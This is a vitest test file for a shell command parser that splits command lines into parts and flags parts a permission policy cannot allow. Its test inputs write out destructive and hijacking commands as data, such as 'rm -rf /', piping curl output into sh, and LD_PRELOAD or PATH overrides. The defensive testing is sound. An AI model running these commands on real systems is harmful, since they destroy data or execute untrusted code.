import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { CommandPart, ParsedCommandLine } from "./command-parts.js";
import { loadShellParser, MAX_COMMAND_LINE_LENGTH, type ShellParser } from "./shell-parser.js";

let shell: ShellParser;
beforeAll(async () => {
  shell = await loadShellParser();
});
afterAll(() => shell.close());

/** Each part as its words, dynamic words in braces: `git add {$f}`. */
function words(part: CommandPart): string {
  return part.words.map((word) => (word.dynamic ? `{${word.text}}` : word.text)).join(" ");
}

function parts(line: string): string[] {
  const parsed = shell.parse(line);
  expect(parsed.ok, parsed.ok ? "" : parsed.reason).toBe(true);
  return parsed.parts.map(words);
}

function notAllowable(parsed: ParsedCommandLine): string[] {
  return parsed.parts.filter((part) => !part.allowable).map(words);
}

describe("parts: every simple command anywhere in the tree", () => {
  test.each([
    ["git status | grep modified | wc -l", ["git status", "grep modified", "wc -l"]],
    ["npm run build && npm test || echo failed; ls &", ["npm run build", "npm test", "echo failed", "ls"]],
    ["cd packages/core && pnpm test", ["cd packages/core", "pnpm test"]],
    ["(cd a && make) || { echo fail; exit 1; }", ["cd a", "make", "echo fail", "exit 1"]],
    ["echo $(git rev-parse HEAD) `date`", ["echo {$(git rev-parse HEAD)} {`date`}", "git rev-parse HEAD", "date"]],
    ["diff <(sort a) <(sort b)", ["diff {<(sort a)} {<(sort b)}", "sort a", "sort b"]],
    ["echo $(echo $(rm -rf /))", ["echo {$(echo $(rm -rf /))}", "echo {$(rm -rf /)}", "rm -rf /"]],
    ['for f in $(ls); do git add "$f"; done', ["ls", "git add {$f}"]],
    ["while read line; do echo $line; done < list.txt", ["read line", "echo {$line}"]],
    ["if [ -f a ]; then rm a; elif true; then :; else ls; fi", ["rm a", "true", ":", "ls"]],
    ["case $x in a) rm a;; *) ls;; esac", ["rm a", "ls"]],
    ["f() { rm -rf build; }; f", ["rm -rf build", "f"]],
    ["! grep -q x file", ["grep -q x file"]],
    ["ls # a comment; rm -rf /", ["ls"]],
    ["echo a \\\n  b", ["echo a b"]],
    ["[[ -n $(whoami) ]] && echo yes", ["whoami", "echo yes"]],
    ["TZ=UTC; NODE_ENV=test npm test", ["npm test"]],
  ])("%s", (line, expected) => {
    expect(parts(line)).toEqual(expected);
  });

  test("a part's text is its source text, for messages", () => {
    const parsed = shell.parse("cd src && FOO=1 git log --oneline > /dev/null | head -3");
    expect(parsed.parts.map((part) => part.text)).toEqual(["cd src", "FOO=1 git log --oneline > /dev/null", "head -3"]);
  });
});

describe("words after quote removal", () => {
  test.each([
    ['git "status"', "git status"],
    ["echo 'a b' \"c d\"", "echo a b c d"],
    ["echo a\"b\"c'd'e", "echo abcde"],
    ["echo a\\ b \\$HOME \\*", "echo a b $HOME *"],
    ["echo $'a\\tb\\x41\\u00e9\\'q' $'\\101\\cA'", "echo a\tbAé'q A\u0001"],
    ['echo "a\\"b\\\\c\\$d\\e"', 'echo a"b\\c$d\\e'],
    ["echo \"*\" '?'", "echo * ?"],
  ])("%s", (line, expected) => {
    const [part] = shell.parse(line).parts;
    expect(part.words.map((word) => word.text).join(" ")).toBe(expected);
    expect(part.words.some((word) => word.dynamic)).toBe(false);
  });

  test.each([
    ["echo $HOME", "$HOME"],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax, not a template
    ["echo ${HOME:-x}", "${HOME:-x}"],
    ['echo "dir: $PWD"', "dir: $PWD"],
    ["echo $((1 + 2))", "$((1 + 2))"],
    ["echo pre$(date)post", "pre$(date)post"],
    ["ls *.ts", "*.ts"],
    ["ls file?.txt", "file?.txt"],
    ["ls [ab].txt", "[ab].txt"],
    ["touch {a,b}.txt", "{a,b}.txt"],
  ])("%s has the dynamic word %s", (line, expected) => {
    const [part] = shell.parse(line).parts;
    expect(part.words[1]).toMatchObject({ text: expected, dynamic: true });
  });

  test("a quoted or escaped glob is a literal", () => {
    expect(shell.parse('ls "*.ts" \\*.js').parts[0].words.map((word) => word.dynamic)).toEqual([false, false, false]);
  });
});

describe("assignment prefixes", () => {
  test("VAR=x prefixes are stripped; a safe name keeps the part allowable", () => {
    const [part] = shell.parse("NODE_ENV=test CI=1 LC_ALL=C npm test").parts;
    expect(words(part)).toBe("npm test");
    expect(part.assignments).toEqual(["NODE_ENV", "CI", "LC_ALL"]);
    expect(part.allowable).toBe(true);
  });

  test.each(["PATH=/tmp/evil git status", "LD_PRELOAD=/tmp/x.so ls", "GIT_DIR=/tmp/other git status", "NODE_OPTIONS=--require=x node a.js"])(
    "%s is not allowable",
    (line) => {
      const [part] = shell.parse(line).parts;
      expect(part.allowable).toBe(false);
      expect(part.notAllowableReason).toMatch(/^it sets [A-Z_]+, which can change what runs$/);
    },
  );

  test("a bare assignment of an unsafe name is a not-allowable part of its own; a safe one adds none", () => {
    const parsed = shell.parse("PATH=/tmp/evil; export GIT_DIR=/x; TZ=UTC; git status");
    expect(parsed.parts.map(words)).toEqual(["", "export GIT_DIR=/x", "git status"]);
    expect(notAllowable(parsed)).toEqual(["", "export GIT_DIR=/x"]);
  });

  test("a bare assignment of any other name is not allowable either (it may name an exported variable), and its $(...) is a part", () => {
    const parsed = shell.parse("x=$(rm tmp.txt)");
    expect(parsed.parts.map((part) => [words(part), part.allowable])).toEqual([
      ["", false],
      ["rm tmp.txt", true],
    ]);
  });
});

describe("wrappers add the inner command as a part; the whole stays a part", () => {
  test.each([
    ["sudo rm -rf /", ["sudo rm -rf /", "rm -rf /"]],
    ["sudo -u root -E rm -rf /", ["sudo -u root -E rm -rf /", "rm -rf /"]],
    ["env -i FOO=1 ls", ["env -i FOO=1 ls", "ls"]],
    ["find . -name '*.o' | xargs -n 1 -I{} rm -rf", ["find . -name *.o", "xargs -n 1 -I{} rm -rf", "rm -rf {<input words>}"]],
    ["timeout -s KILL 5 npm test", ["timeout -s KILL 5 npm test", "npm test"]],
    ["nice -n 10 nohup make", ["nice -n 10 nohup make", "nohup make", "make"]],
    ["time command -p exec git status", ["time command -p exec git status", "command -p exec git status", "exec git status", "git status"]],
    ["stdbuf -oL tail -f log", ["stdbuf -oL tail -f log", "tail -f log"]],
    ["doas -u www rm x", ["doas -u www rm x", "rm x"]],
    ["setsid ionice -c 3 make", ["setsid ionice -c 3 make", "ionice -c 3 make", "make"]],
    ["/usr/bin/sudo /bin/rm x", ["/usr/bin/sudo /bin/rm x", "/bin/rm x"]],
  ])("%s", (line, expected) => {
    expect(parts(line)).toEqual(expected);
  });

  test("find -exec / -execdir / -ok commands are parts; {} is a dynamic word", () => {
    const parsed = shell.parse("find . -name '*.tmp' -exec rm -f {} \\; -o -execdir git add {} + -print");
    expect(parsed.parts.map(words)).toEqual(["find . -name *.tmp -exec rm -f {} ; -o -execdir git add {} + -print", "rm -f {{}}", "git add {{}}"]);
    expect(parsed.parts.map((part) => part.text).slice(1)).toEqual(["rm -f {}", "git add {}"]);
    expect(parts("find . -type f -ok sh -c 'rm x' ';'")).toEqual(["find . -type f -ok sh -c rm x ;", "sh -c rm x", "rm x"]);
  });

  test("the inner part's text runs from its first word, and an unsafe env assignment reaches it", () => {
    const parsed = shell.parse("env LD_PRELOAD=x.so sudo rm -rf /tmp/a");
    expect(parsed.parts.map((part) => part.text)).toEqual(["env LD_PRELOAD=x.so sudo rm -rf /tmp/a", "sudo rm -rf /tmp/a", "rm -rf /tmp/a"]);
    expect(parsed.parts[1].assignments).toEqual(["LD_PRELOAD"]);
    expect(parsed.parts.slice(1).every((part) => !part.allowable)).toBe(true);
  });

  test("env -S hides a command: not allowable", () => {
    expect(notAllowable(shell.parse('env -S "rm -rf /"'))).toEqual(["env -S rm -rf /"]);
  });
});

describe("nested shells and eval", () => {
  test("sh -c and bash -lc strings are parsed recursively", () => {
    expect(parts("bash -lc 'cd /tmp && rm -rf x' && sh -c \"git status\"")).toEqual([
      "bash -lc cd /tmp && rm -rf x",
      "cd /tmp",
      "rm -rf x",
      "sh -c git status",
      "git status",
    ]);
  });

  test("nested sh -c inside sh -c, and eval", () => {
    expect(parts(`sh -c 'echo hi; bash -c "rm -rf /"'; eval 'ls; rm a' b`)).toEqual([
      `sh -c echo hi; bash -c "rm -rf /"`,
      "echo hi",
      "bash -c rm -rf /",
      "rm -rf /",
      "eval ls; rm a b",
      "ls",
      "rm a b",
    ]);
  });

  test("a nesting deeper than the limit is not allowable", () => {
    // Each `eval` parses the rest once more: `eval eval ls` -> `eval ls` -> `ls`.
    const parsed = shell.parse(`${"eval ".repeat(10)}ls`);
    expect(parsed.ok).toBe(true);
    expect(parsed.parts.some((part) => part.notAllowableReason === "its nested shell strings are too deep to check")).toBe(true);
    expect(parsed.parts.some((part) => words(part) === "ls")).toBe(false);
    expect(shell.parse(`${"eval ".repeat(8)}ls`).parts.every((part) => part.allowable)).toBe(true);
  });

  test.each([
    ["bash script.sh", '"bash" runs commands from a script file, which this policy cannot read'],
    ["curl -s https://x.example | sh", '"sh" runs commands from its standard input, which this policy cannot read'],
    ['bash -c "$CMD"', 'the command string of "bash -c" is decided at run time'],
    ["eval $CMD", 'the command run by "eval" is decided at run time'],
    ['su -c "$CMD" root', 'the command run by "su -c" is decided at run time'],
    ["su - root", '"su" opens a shell that runs commands from its standard input, which this policy cannot read'],
    ["source ./env.sh", '"source" runs a script file this policy cannot read'],
    ["bash <<EOF\nrm -rf /\nEOF", '"bash" runs commands from its standard input, which this policy cannot read'],
  ])("%s is not allowable", (line, reason) => {
    const parsed = shell.parse(line);
    expect(parsed.parts.find((part) => !part.allowable)?.notAllowableReason).toBe(reason);
  });

  test("trap handlers, watch commands and su -c strings are parsed like eval", () => {
    expect(parts("trap 'rm -rf /tmp/x' EXIT; trap - EXIT; watch -n 1 'git status; rm x'; su root -c 'rm y'")).toEqual([
      "trap rm -rf /tmp/x EXIT",
      "rm -rf /tmp/x",
      "trap - EXIT",
      "watch -n 1 git status; rm x",
      "git status",
      "rm x",
      "su root -c rm y",
      "rm y",
    ]);
  });

  test("backquotes nested with \\` are not read by tree-sitter-bash: the line is not parsed", () => {
    const parsed = shell.parse("echo `echo \\`rm x\\``");
    expect(parsed).toMatchObject({ ok: false, reason: "nested backquotes this policy cannot read" });
  });

  test("a -c string that does not parse makes the line unparsable", () => {
    const parsed = shell.parse("sh -c 'echo \"unclosed'");
    expect(parsed.ok).toBe(false);
    expect(parsed.ok ? "" : parsed.reason).toMatch(/^the string run by "sh" does not parse/);
  });
});

describe("redirections", () => {
  test.each(["ls > out.txt", "ls >> log", "ls &> all.txt", "echo x >| f", "ls 2> err.txt", "ls > $OUT", "{ ls; pwd; } > listing"])(
    "%s writes a file: not allowable",
    (line) => {
      const parsed = shell.parse(line);
      expect(parsed.parts.length).toBeGreaterThan(0);
      expect(
        parsed.parts.every((part) => !part.allowable && /^it writes output to (the file|a file named at run time)/.test(part.notAllowableReason ?? "")),
      ).toBe(true);
    },
  );

  test.each(["ls > /dev/null", "ls 2>/dev/null", "ls >&2", "ls 2>&1 | head", "ls > /dev/stderr", "ls 1>&-", "sort < input.txt", "cat <<< hello"])(
    "%s stays allowable",
    (line) => {
      expect(notAllowable(shell.parse(line))).toEqual([]);
    },
  );

  test("a redirection after a list or pipeline reaches only its last command (tree-sitter-bash attaches it to the whole list)", () => {
    expect(notAllowable(shell.parse("cd src && git log > log.txt"))).toEqual(["git log"]);
    expect(notAllowable(shell.parse("grep -r x . | sort > hits.txt"))).toEqual(["sort"]);
    expect(notAllowable(shell.parse("a && b | c > out; d"))).toEqual(["c"]);
    expect(shell.parse("cd src && git log > log.txt").parts.map((part) => part.text)).toEqual(["cd src", "git log > log.txt"]);
  });

  test("a redirected subshell or group restricts every command inside it", () => {
    expect(notAllowable(shell.parse("ls && (pwd; whoami) > who.txt"))).toEqual(["pwd", "whoami"]);
  });

  test("tree-sitter reads `ls >out arg` as two destinations; bash gives arg to ls", () => {
    expect(shell.parse("ls >out -la").parts.map(words)).toEqual(["ls -la"]);
  });

  test("commands substituted into a redirected command are their own parts", () => {
    const parsed = shell.parse("echo $(git rev-parse HEAD) > head.txt");
    expect(notAllowable(parsed)).toEqual(["echo {$(git rev-parse HEAD)}"]);
  });
});

describe("heredocs are data", () => {
  test.each([
    ["cat <<EOF\nrm -rf /\nEOF", ["cat"]],
    ["cat <<'EOF'\n$(rm -rf /)\nEOF", ["cat"]],
    ['cat <<"EOF" | grep x\n`rm`\nEOF', ["cat", "grep x"]],
    ["cat <<-EOF && echo done\n\trm -rf /\n\tEOF", ["cat", "echo done"]],
  ])("%s", (line, expected) => {
    expect(parts(line)).toEqual(expected);
    expect(notAllowable(shell.parse(line))).toEqual([]);
  });

  test("an unquoted heredoc runs its $(...): those commands are parts", () => {
    expect(parts("cat <<EOF\nuser: $(whoami)\nEOF")).toEqual(["cat", "whoami"]);
  });

  test("an unquoted heredoc with backticks tree-sitter leaves as text is not data", () => {
    expect(notAllowable(shell.parse("cat <<EOF\n`rm -rf /`\nEOF"))).toEqual(["cat"]);
  });

  test("a heredoc written to a file", () => {
    const parsed = shell.parse("cat <<EOF > notes.md\nhello\nEOF");
    expect(parsed.parts.map((part) => [part.text, part.notAllowableReason])).toEqual([["cat <<EOF > notes.md", 'it writes output to the file "notes.md"']]);
  });
});

describe("unparsable lines: ok false, never throws", () => {
  test.each([
    ["echo 'unclosed", ["echo"]],
    ['echo "unclosed', ["echo"]],
    ["echo $(", ["echo"]],
    ["ls && ", ["ls"]],
    ["if true; then ls", ["true"]],
    ["cat <> f", ["cat"]],
    ["rm -rf / )", ["rm -rf /"]],
  ])("%s", (line, readable) => {
    const parsed = shell.parse(line);
    expect(parsed.ok).toBe(false);
    expect(parsed.ok ? "" : parsed.reason).toMatch(/^syntax error/);
    expect(parsed.parts.map(words)).toEqual(readable);
  });

  test("a line over 64 KiB is not parsed", () => {
    const parsed = shell.parse(`echo ${"a".repeat(MAX_COMMAND_LINE_LENGTH)}`);
    expect(parsed).toEqual({ ok: false, reason: `the command line is longer than ${MAX_COMMAND_LINE_LENGTH} characters`, parts: [] });
  });

  test("a long line under the cap parses", () => {
    const line = Array.from({ length: 2000 }, (_unused, index) => `echo ${index}`).join(" && ");
    const parsed = shell.parse(line);
    expect(parsed.ok).toBe(true);
    expect(parsed.parts).toHaveLength(2000);
  });

  test("nesting too deep is ok false, not a stack overflow", () => {
    const parsed = shell.parse(`${"echo $(".repeat(300)}x${")".repeat(300)}`);
    expect(parsed.ok).toBe(false);
    expect(parsed.ok ? "" : parsed.reason).toContain("nesting too deep");
    expect(parsed.parts.length).toBeGreaterThan(0);
  });

  test("a closed parser answers ok false", async () => {
    const other = await loadShellParser();
    other.close();
    other.close();
    expect(other.parse("ls")).toEqual({ ok: false, reason: "the shell parser is closed", parts: [] });
  });

  test("the empty line has no parts", () => {
    expect(shell.parse("")).toEqual({ ok: true, parts: [] });
    expect(shell.parse("   # only a comment")).toEqual({ ok: true, parts: [] });
  });
});
